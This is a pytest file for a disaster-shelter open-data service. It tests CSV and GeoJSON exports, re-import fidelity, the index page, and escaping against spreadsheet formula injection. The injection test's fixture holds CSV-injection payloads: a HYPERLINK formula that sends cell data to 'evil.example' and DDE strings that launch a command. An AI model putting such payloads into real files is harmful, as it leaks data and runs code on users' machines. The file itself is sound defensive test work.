"""Open data: the exported shelter CSVs re-import with our own importer to identical records; page and GeoJSON."""

from __future__ import annotations

import csv
import io
from pathlib import Path

import pytest
from fastapi.testclient import TestClient
from geoalchemy2.shape import to_shape
from sqlalchemy import select
from sqlalchemy.orm import Session

from hub.importers.shelters import import_shelters, parse_shelter_file
from hub.opendata.datasets import DATASETS, FORMULA_STARTS, PLAIN_NUMBER, inert_cell
from hub.shelters.models import Shelter
from tests.conftest import DATA

BOM = "\ufeff".encode()


def header_of(path: Path) -> list[str]:
    """The column names of a bundled data file."""
    text = path.read_text("utf-8-sig")
    return next(csv.reader(io.StringIO(text)))


def download(client: TestClient, name: str, tmp_path: Path) -> Path:
    response = client.get(f"/opendata/{name}")
    assert response.status_code == 200
    assert response.headers["content-type"] == "text/csv; charset=utf-8"
    assert response.content.startswith(BOM)
    assert b"\r\n" in response.content and b"\n\n" not in response.content
    path = tmp_path / name
    path.write_bytes(response.content)
    return path


@pytest.mark.parametrize(
    ("name", "kind", "example"),
    [
        ("shelters.csv", "designated_emergency_site", "gsi_designated_emergency_evacuation_sites_4wards_derived.csv"),
        ("designated-shelters.csv", "designated_shelter", "gsi_designated_shelters_4wards_derived.csv"),
    ],
)
def test_gsi_csv_reimports_unchanged(
    client: TestClient, db: Session, tmp_path: Path, name: str, kind: str, example: str
) -> None:
    path = download(client, name, tmp_path)
    assert header_of(path) == header_of(DATA / "shelters" / example)
    expected = len(db.scalars(select(Shelter.id).where(Shelter.source == "gsi", Shelter.kinds.any_() == kind)).all())
    versions = {row.source_id: row.version for row in db.execute(select(Shelter.source_id, Shelter.version))}
    report = import_shelters(db, path)
    assert report.rows == expected > 0
    assert (report.inserted, report.updated) == (0, 0)  # every column, attributes and geometry identical
    assert {row.source_id: row.version for row in db.execute(select(Shelter.source_id, Shelter.version))} == versions


def test_gsi_csv_matches_the_national_file_row_for_row(client: TestClient, tmp_path: Path) -> None:
    ours = {r.source_id: r for r in parse_shelter_file(download(client, "shelters.csv", tmp_path))[0]}
    national, errors = parse_shelter_file(
        DATA / "shelters/gsi_designated_emergency_evacuation_sites_4wards_derived.csv"
    )
    assert not errors
    assert ours.keys() == {r.source_id for r in national}
    for record in national:
        assert ours[record.source_id] == record


def test_tokyo_csv_holds_every_shelter_once_per_kind(client: TestClient, db: Session, tmp_path: Path) -> None:
    path = download(client, "shelters-tokyo.csv", tmp_path)
    assert header_of(path) == header_of(DATA / "shelters/shinagawa_shelters_and_wide_area_evac_sites.csv")
    records, errors = parse_shelter_file(path)
    assert not errors
    shelters = list(db.scalars(select(Shelter)))
    assert len(records) == sum(len(s.kinds) for s in shelters)
    by_key = {(r.kinds[0], r.name, r.address or "", round(r.lat, 9), round(r.lon, 9)): r for r in records}
    for shelter in shelters:
        point = to_shape(shelter.location)
        for kind in shelter.kinds:
            record = by_key[(kind, shelter.name, shelter.address or "", round(point.y, 9), round(point.x, 9))]
            assert (record.lat, record.lon) == (point.y, point.x)
            assert sorted(record.hazards) == sorted(shelter.hazards)
            assert record.ward_code == shelter.ward_code
            assert (record.capacity, record.phone, record.name_en) == (shelter.capacity, shelter.phone, shelter.name_en)
            assert (record.served_area, record.notes, record.elevation_m) == (
                shelter.served_area,
                shelter.notes,
                shelter.elevation_m,
            )
            if shelter.source == "tokyo-opendata":
                assert record.source_id == shelter.source_id  # the same record when re-imported


def test_tokyo_csv_reimports_the_ward_file_unchanged(client: TestClient, db: Session, tmp_path: Path) -> None:
    """The 62 rows that came from the ward's decimal-degree Tokyo file come back identical, attributes included."""
    path = download(client, "shelters-tokyo.csv", tmp_path)
    original, _ = parse_shelter_file(DATA / "shelters/shinagawa_shelters_and_wide_area_evac_sites.csv")
    wanted = {r.source_id for r in original}
    text = path.read_text("utf-8-sig")
    rows = list(csv.DictReader(io.StringIO(text)))
    subset = tmp_path / "subset.csv"
    with subset.open("w", encoding="utf-8-sig", newline="") as out:
        writer = csv.DictWriter(out, fieldnames=list(rows[0]))
        writer.writeheader()
        parsed, _ = parse_shelter_file(path)
        for row, record in zip(rows, parsed, strict=True):
            if record.source_id in wanted:
                writer.writerow(row)
    report = import_shelters(db, subset)
    assert report.rows == len(wanted) == 62
    assert (report.inserted, report.updated) == (0, 0)


def test_geojson_downloads(client: TestClient) -> None:
    for dataset in DATASETS:
        if not dataset.file.endswith(".geojson"):
            continue
        response = client.get(f"/opendata/{dataset.file}")
        assert response.status_code == 200, dataset.file
        assert response.headers["content-type"] == "application/geo+json"
        assert f'filename="bosai-{dataset.file}"' in response.headers["content-disposition"]
        body = response.json()
        assert body["type"] == "FeatureCollection"
    assert len(client.get("/opendata/shelters.geojson").json()["features"]) == 751
    assert len(client.get("/opendata/areas.geojson").json()["features"]) == 4
    assert client.get("/opendata/secrets.csv").status_code == 422


def test_index_page(client: TestClient) -> None:
    response = client.get("/opendata/")
    assert response.status_code == 200
    assert response.headers["content-type"].startswith("text/html")
    page = response.text
    assert "CC BY 4.0" in page and "creativecommons.org/licenses/by/4.0" in page
    for dataset in DATASETS:
        assert f'href="{dataset.file}"' in page
    assert "出典：国土地理院「指定緊急避難場所・指定避難所データ」" in page
    assert "国土数値情報（行政区域データ）" in page
    assert "<td>751</td>" in page
    assert client.get("/opendata/", headers={"If-None-Match": response.headers["etag"]}).status_code == 304


#: Cells a spreadsheet would run as formulas (OWASP "CSV Injection"), half- and full-width.
FORMULAS = {
    "name": '=HYPERLINK("http://evil.example/?d="&A2,"詳細")',
    "address": "@SUM(1+1)*cmd|' /C calc'!A0",
    "notes": "+1+cmd|' /C calc'!A0",
    "served_area": "-2+3+cmd|' /C calc'!A0",
    "phone": "\t=1+1",
    "name_en": '＝HYPERLINK("http://evil.example")',
}


@pytest.mark.parametrize(
    ("value", "written"),
    [
        ("=1+1", "'=1+1"),
        ("+1+1", "'+1+1"),
        ("-1+1", "'-1+1"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("＝1+1", "'＝1+1"),
        ("＋1", "'＋1"),
        ("－1", "'－1"),
        ("＠SUM(A1)", "'＠SUM(A1)"),
        ("品川区立城南小学校", "品川区立城南小学校"),
        ("a=b", "a=b"),
        ("-1.5", "-1.5"),  # a negative elevation stays a number
        ("+3", "+3"),
        ("", ""),
    ],
)
def test_inert_cell(value: str, written: str) -> None:
    assert inert_cell(value) == written


@pytest.mark.parametrize("name", ["shelters.csv", "designated-shelters.csv", "shelters-tokyo.csv"])
def test_csv_cells_never_start_a_formula(client: TestClient, db: Session, tmp_path: Path, name: str) -> None:
    for kind in ("designated_emergency_site", "designated_shelter"):  # one in each GSI file
        shelter = db.scalars(
            select(Shelter).where(Shelter.source == "gsi", Shelter.kinds.any_() == kind).order_by(Shelter.id).limit(1)
        ).one()
        for column, value in FORMULAS.items():
            setattr(shelter, column, value)
        shelter.elevation_m = -1.5
    db.flush()
    rows = list(csv.reader(io.StringIO(download(client, name, tmp_path).read_text("utf-8-sig"))))
    cells = [cell for row in rows for cell in row]
    assert all(not cell or cell[0] not in FORMULA_STARTS or PLAIN_NUMBER.fullmatch(cell) for cell in cells)
    written = [cell for cell in cells if cell.lstrip("'") in FORMULAS.values()]
    assert written and all(cell.startswith("'") for cell in written), "the attack is there, as text"
    assert name != "shelters-tokyo.csv" or "-1.5" in cells  # numbers stay numbers
